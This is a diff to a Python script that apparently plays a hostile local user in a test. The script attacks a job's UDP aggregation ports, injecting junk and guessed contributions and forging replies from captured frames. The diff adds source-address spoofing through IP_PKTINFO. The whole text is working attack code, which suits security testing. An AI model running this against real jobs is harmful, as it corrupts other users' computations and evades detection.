@@ -1,12 +1,14 @@
 """Another user of the machine, who tries to get at a job's sums through the UDP ports of a run.
 
 A line on standard input is one round: it finds the ports in ``/proc/net/udp``, sends each of them junk and
-contributions that are guessed, forges contributions from every frame that comes back, and says in a line of
-JSON what it has done so far. To be started by root; loads all that it needs before it becomes another user.
+contributions that are guessed, forges contributions from every frame that comes back, tries to send in the
+name of each port, and says in a line of JSON what it has done so far. To be started by root; loads all that
+it needs before it becomes another user.
 """
 
 from __future__ import annotations
 
+import contextlib
 import json
 import os
 import select
@@ -22,6 +24,11 @@ AHEAD = range(500, 540)  # of a learnt frame: what workers with the usual window
 LANES = 32
 HEADER = struct.Struct("!BBHIIBBBBHHIHH")
 ROUND_DATAGRAMS = 4
+IP_PKTINFO = 8
+IN_THE_NAME_OF = [
+    (socket.IPPROTO_IP, IP_PKTINFO, struct.pack("@I4s4s", 0, socket.inet_aton("127.0.0.1"), bytes(4)))
+]
+ELSEWHERE = "127.0.0.2"
 PAUSE_S = 0.02  # for answers: few rounds, so that what is diverted is asked for again, and nobody notices
 
 
@@ -56,11 +63,23 @@ def guess(port: int, number: int) -> bytes:
     return ethernet + ip[:10] + checksum.to_bytes(2, "big") + ip[12:] + udp + payload
 
 
+def disguise(port: int) -> socket.socket | None:
+    """Return a socket that sends as 127.0.0.1 from a port, if it can be had at another address."""
+    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    try:
+        made.bind((ELSEWHERE, port))
+    except OSError:
+        made.close()
+        return None
+    return made
+
+
 def main() -> None:
     os.setgroups([])
     os.setgid(NOBODY)
     os.setuid(NOBODY)
     sockets: dict[int, socket.socket] = {}
+    disguises: dict[int, socket.socket] = {}
     sent = leaked = forged = number = 0
     for _ in sys.stdin:
         for port in targets():
@@ -72,6 +91,12 @@ def main() -> None:
             for datagram in junk:
                 sockets[port].sendto(datagram, ("127.0.0.1", port))
                 sent += 1
+            if port not in disguises and (found := disguise(port)):
+                disguises[port] = found
+        for made in disguises.values():
+            for port in sockets:
+                with contextlib.suppress(OSError):
+                    made.sendmsg([guess(port, number)], IN_THE_NAME_OF, 0, ("127.0.0.1", port))
         for one in select.select(list(sockets.values()), [], [], PAUSE_S)[0]:
             try:
                 frame, (_, port) = one.recvfrom(65536)
@@ -80,9 +105,9 @@ def main() -> None:
             leaked += 1
             if len(frame) < INA + HEADER.size or frame[INA] != 0x22:
                 continue
-            for made in forgeries(frame):
+            for forgery in forgeries(frame):
                 try:
-                    one.sendto(made, ("127.0.0.1", port))
+                    one.sendto(forgery, ("127.0.0.1", port))
                     sent += 1
                     forged += 1
                 except OSError:
@@ -93,6 +118,7 @@ def main() -> None:
             "sent": sent,
             "leaked": leaked,
             "forged": forged,
+            "disguised": sorted(disguises),
         }
         print(json.dumps(said), flush=True)
 
